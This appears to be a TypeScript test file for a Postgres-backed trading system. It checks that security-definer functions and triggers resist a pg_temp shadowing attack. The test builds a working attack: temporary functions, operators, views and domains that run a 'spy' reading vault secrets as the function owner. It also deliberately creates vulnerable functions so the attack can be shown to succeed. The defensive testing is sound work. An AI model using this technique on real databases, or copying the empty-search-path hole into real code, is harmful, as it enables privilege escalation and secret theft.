/**
 * Whoever may connect may create types, tables, functions and operators of his own, in `pg_temp`. Postgres looks there
 * first for types and tables wherever a function's search path does not say otherwise: `value::text` in a function
 * with its owner's rights would then run the check of his domain `text` as the owner. Here somebody tries.
 */

import { assert, assertEquals } from "@std/assert/mod.js";
import postgres from "postgres";
import { type Actor, ACTORS } from "../testing/access_matrix.ts";
import { connect, type Database } from "../stack/database.ts";
import { startEmbedded } from "../stack/embedded.ts";
import { OUR_SCHEMAS } from "../stack/schema_snapshot.ts";
import { readSqlFiles, runSqlFiles, SQL_DIRECTORY } from "../stack/schema_sources.ts";
import { installStandIns, storeSecret } from "../stack/standins.ts";
import { createServerDatabase, type Target, testOnEachTarget } from "../testing/databases.ts";

const SECRET = "a secret of this house";

const PATTERN_KEY = "pm.uptrend.S1.buy_flag";
const SCOPE = '{"chain": "solana", "timeframe": "1h", "macro_phase": "recover"}';

/** What the calls below find: something held, something learned, and a message. */
const FURNITURE = `
  insert into public.lowcap_positions
    (id, token_chain, token_contract, timeframe, status, total_allocation_pct, entry_context, pattern_key)
  values ('00000000-0000-4000-8000-000000000001', 'solana', 'A', '1h', 'active', 0.1, '{}', '${PATTERN_KEY}');
  insert into public.pm_overrides
    (override_type, pattern_key, action_category, scope_subset, multiplier, dir_a, confidence_score, edge_raw, n)
  values ('pm_strength', '${PATTERN_KEY}', 'entry', '{"chain": "solana"}', 1.2, 0.5, 0.8, 0.1, 40),
    ('dm_alloc', '${PATTERN_KEY}', 'allocation', '{"chain": "solana"}', 1.2, 0, 0.8, 0.1, 40);
  insert into public.ad_strands (id, module, kind, position_id, content)
  values ('action', 'pm', 'pm_action', '00000000-0000-4000-8000-000000000001', '{"trade_id": "one"}')`;

/** Functions as they were, for the attack to succeed on: it has to be a real one. */
const CARELESS = `
  create function public.careless(value jsonb) returns boolean
  language plpgsql security definer set search_path = ''
  as $$ begin return (value ->> 'key')::text is null; end $$;
  create function public.careless_inside(value jsonb) returns boolean
  language plpgsql set search_path = ''
  as $$ declare key text := value ->> 'key'; begin return key is null; end $$;
  create function public.careful_outside(value jsonb) returns boolean
  language plpgsql security definer set search_path = pg_catalog, pg_temp
  as $$ begin return public.careless_inside(value); end $$;
  revoke all on function public.careless(jsonb), public.careful_outside(jsonb), public.careless_inside(jsonb) from public;
  grant execute on function public.careless(jsonb), public.careful_outside(jsonb) to authenticated, service_role`;

/**
 * A database built from `sql/`. Each address is one at which no session has compiled a function yet: what is compiled
 * keeps its types, and the embedded database is one session for all.
 */
async function build(target: Target, cleanup: AsyncDisposableStack): Promise<() => Promise<string>> {
  if (target === "postgres") {
    const databaseUrl = await createServerDatabase(cleanup);
    await furnish(databaseUrl);
    return () => Promise.resolve(databaseUrl);
  }
  const dataDirectory = await Deno.makeTempDir();
  cleanup.defer(() => Deno.remove(dataDirectory, { recursive: true }));
  let running = await startEmbedded({ dataDirectory });
  cleanup.defer(() => running.close());
  await furnish(running.databaseUrl);
  return async () => {
    await running.close();
    running = await startEmbedded({ dataDirectory });
    return running.databaseUrl;
  };
}

async function furnish(databaseUrl: string): Promise<void> {
  const sql = connect(databaseUrl, { max: 1 });
  try {
    await installStandIns(sql);
    await runSqlFiles(sql, await readSqlFiles(SQL_DIRECTORY));
    await storeSecret(sql, "house_secret", SECRET, "");
    await sql.unsafe(FURNITURE).simple();
    await sql.unsafe(CARELESS).simple();
  } finally {
    await sql.end({ timeout: 5 });
  }
}

/** What the attacker creates: a spy, and everything that could lead somebody else to run it. */
async function attackStatements(sql: Database, attacker: string): Promise<string[]> {
  const types = await sql<{ name: string }[]>`
    select quote_ident(t.typname) as name from pg_type t
    where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype in ('b', 'r') and t.typcategory not in ('A', 'Z')
      and t.typname not like 'pg\\_%' and t.typrelid = 0`;
  const relations = await sql<{ name: string }[]>`
    select distinct quote_ident(c.relname) as name from pg_class c
    where c.relnamespace = any (${OURS}::regnamespace[]) and c.relkind in ('r', 'p', 'v')
      or c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
        and c.relname in ('pg_class', 'pg_proc', 'pg_namespace', 'pg_roles', 'pg_settings', 'pg_depend')
    union
    select quote_ident(transition.name) from pg_trigger t
    cross join lateral (values (t.tgoldtable), (t.tgnewtable)) as transition(name)
    where transition.name is not null`;
  return [
    `create function pg_temp.spy(pg_catalog.text) returns pg_catalog.bool language plpgsql as $spy$
     declare
       loot pg_catalog.text;
     begin
       if current_user = '${attacker}' then
         return true;
       end if;
       begin
         select pg_catalog.string_agg(secret.decrypted_secret, ', ') into loot from vault.decrypted_secrets as secret;
       exception when insufficient_privilege then
         loot := 'nothing';
       end;
       raise warning '% ran as % and read %', $1, current_user, loot;
       raise exception 'The spy has seen enough';
     end
     $spy$`,
    `create function pg_temp.now() returns pg_catalog.timestamptz language sql
     as $$ select case when pg_temp.spy('now()') then pg_catalog.now() end $$`,
    `create function pg_temp.length(pg_catalog.text) returns pg_catalog.int4 language sql
     as $$ select case when pg_temp.spy('length()') then pg_catalog.length($1) end $$`,
    `create function pg_temp.get(pg_catalog.jsonb, pg_catalog.text) returns pg_catalog.text language sql
     as $$ select case when pg_temp.spy('->>') then $1 operator(pg_catalog.->>) $2 end $$`,
    `create operator pg_temp.->> (leftarg = pg_catalog.jsonb, rightarg = pg_catalog.text, function = pg_temp.get)`,
    `create function pg_temp.same(pg_catalog.text, pg_catalog.text) returns pg_catalog.bool language sql
     as $$ select pg_temp.spy('=') and pg_catalog.texteq($1, $2) $$`,
    `create operator pg_temp.= (leftarg = pg_catalog.text, rightarg = pg_catalog.text, function = pg_temp.same)`,
    ...relations.map(({ name }) =>
      `create view pg_temp.${name} as select pg_temp.spy('view ${name}') as seen`
    ),
    ...types.map(({ name }) =>
      `create domain pg_temp.${name} as pg_catalog.${name} check (pg_temp.spy('domain ${
        name.replaceAll('"', "")
      }'))`
    ),
  ];
}

const OURS = [...OUR_SCHEMAS];

/** Arguments by name, where something has to be found for a function to do its work. */
const ARGUMENTS: Readonly<Record<string, string>> = {
  pattern_key: `'${PATTERN_KEY}'`,
  action_category: "'entry'",
  scope: `'${SCOPE}'`,
  candidates: `'[{"pattern_key": "${PATTERN_KEY}", "action_category": "entry", "scope": ${SCOPE}}]'`,
  timeframe: "'1h'",
  value: `'{"key": "word"}'`,
  module_id: "'pm'",
};
const CANDIDATE = `learning.check_candidate('${PATTERN_KEY}', 'entry', '${SCOPE}', 0.5, 0.5, 1, null)`;

/** Arguments by type; the driver's side of a literal leaves the type to the function. */
const SAMPLES: Readonly<Record<string, string>> = {
  "text": "'pm'",
  "integer": "'1'",
  "smallint": "'1'",
  "bigint": "'1'",
  "double precision": "'0.5'",
  "jsonb": "'{}'",
  "boolean": "'true'",
  "uuid": "'00000000-0000-4000-8000-000000000001'",
  "timestamp with time zone": "'2026-01-01'",
  "interval": "'1 hour'",
  "learning.candidate": CANDIDATE,
  "learning.candidate[]": `array[${CANDIDATE}]`,
};

/** Calls of all functions and reads of all tables and views that the role may call and read. */
async function attemptsOf(sql: Database, role: string): Promise<string[]> {
  const functions = await sql<{ name: string; names: string[] | null; types: string[] }[]>`
    select p.pronamespace::regnamespace || '.' || quote_ident(p.proname) as name, p.proargnames as names,
      array(select format_type(one.type, null) from unnest(p.proargtypes) with ordinality as one(type, place) order by place)
        as types
    from pg_proc p
    where p.pronamespace = any (${OURS}::regnamespace[]) and p.prokind = 'f' and p.prorettype <> 'trigger'::regtype
      and has_function_privilege(${role}, p.oid, 'execute')
    order by 1`;
  const relations = await sql<{ name: string }[]>`
    select c.relnamespace::regnamespace || '.' || quote_ident(c.relname) as name from pg_class c
    where c.relnamespace = any (${OURS}::regnamespace[]) and c.relkind in ('r', 'p', 'v')
      and has_table_privilege(${role}, c.oid, 'select')
    order by 1`;
  return [
    ...functions.map(({ name, names, types }) => {
      const given = types.map((type, place) => {
        const byName = ARGUMENTS[names?.[place] ?? ""];
        return (type === "text" || type === "jsonb" ? byName : undefined) ?? SAMPLES[type] ??
          (type.endsWith("[]") ? "'{}'" : "null");
      });
      return `select * from ${name}(${given.join(", ")})`;
    }),
    ...relations.map(({ name }) => `select * from ${name} limit 100`),
  ];
}

/** Writes that set off the triggers, which act with their owner's rights. */
async function writesOf(sql: Database): Promise<string[]> {
  const columns = await sql<{ table: string; column: string }[]>`
    select distinct on (t.tgrelid) t.tgrelid::regclass::text as table, quote_ident(a.attname) as column
    from pg_trigger t
    join pg_class c on c.oid = t.tgrelid
    join pg_attribute a on a.attrelid = t.tgrelid and a.attnum > 0 and not a.attisdropped and a.attidentity = ''
      and a.attgenerated = ''
    where c.relnamespace = any (${OURS}::regnamespace[]) and not t.tgisinternal
    order by t.tgrelid, a.attnum`;
  return [
    FURNITURE.replaceAll("00000001'", "00000002'").replaceAll("'A'", "'B'").replaceAll("solana", "base")
      .replaceAll("'action'", "'other action'"),
    `insert into public.scope_dimensions (dim, bit, source) values ('weather', 20, 'entry')`,
    `insert into public.learning_configs (module_id, config_data) values ('pm', '{"n_min": 40}')`,
    ...columns.map(({ table, column }) => `update ${table} set ${column} = ${column} where true`),
    ...columns.map(({ table }) => `delete from ${table} where true`),
  ];
}

interface Attack {
  /** Who ran the attacker's code, by the statement during which he did. */
  readonly hits: ReadonlyMap<string, string>;
  /** Errors by statement; nobody has to be able to do everything. */
  readonly failures: ReadonlyMap<string, string>;
}

async function attack(databaseUrl: string, actor: Actor): Promise<Attack> {
  const { role, claims } = ACTORS[actor];
  const owner = connect(databaseUrl, { max: 1 });
  const attempts: string[] = [];
  let preparation: string[];
  try {
    preparation = await attackStatements(owner, role);
    attempts.push(...await attemptsOf(owner, role));
    if (role === "service_role") attempts.push(...await writesOf(owner));
  } finally {
    await owner.end({ timeout: 5 });
  }

  const hits = new Map<string, string>();
  const failures = new Map<string, string>();
  let running = "";
  const sql = postgres(databaseUrl, {
    max: 1,
    fetch_types: false,
    onnotice: ({ message }) => {
      if (message?.includes(" ran as ") === true && !hits.has(running)) hits.set(running, message);
    },
  });
  const undo = new Error("undo");
  try {
    await sql.begin(async (transaction) => {
      await transaction.unsafe(`set local role ${role}`);
      await transaction`select set_config('request.jwt.claims', ${JSON.stringify(claims)}, true)`;
      for (const statement of preparation) await transaction.unsafe(statement).simple();
      for (const statement of attempts) {
        running = statement;
        try {
          await transaction.savepoint(async (inner) => {
            await inner.unsafe(statement).simple();
            throw undo;
          });
        } catch (error) {
          if (error !== undo) failures.set(statement, error instanceof Error ? error.message : String(error));
        }
      }
      throw undo;
    });
  } catch (error) {
    if (error !== undo) throw error;
  } finally {
    await sql.end({ timeout: 5 });
  }
  return { hits, failures };
}

testOnEachTarget(
  "temporary types, tables, functions and operators run as nobody but their maker",
  async (target) => {
    await using cleanup = new AsyncDisposableStack();
    const freshAddress = await build(target, cleanup);
    for (const actor of ["pm", "service_role"] as const) {
      const { hits, failures } = await attack(await freshAddress(), actor);
      const isCareless = ([statement]: [string, string]): boolean =>
        /public\.care(less|ful_outside)\(/.test(statement);
      const careless = [...hits].filter(isCareless);
      assertEquals(careless.length, 2, "the attack is one: it succeeds where a search path is empty");
      for (const [, hit] of careless) assert(hit.includes(` ran as postgres and read ${SECRET}`), hit);
      assertEquals([...hits].filter((hit) => !isCareless(hit)), [], `attacked by ${actor}`);
      // What nothing could be reached through would have withstood for no reason.
      const reached = /from public\.(get_|explain_|match_)|^select \* from \w+\.\w+ limit|^insert /;
      assertEquals([...failures].filter(([statement]) => reached.test(statement.trim())), []);
    }
  },
);
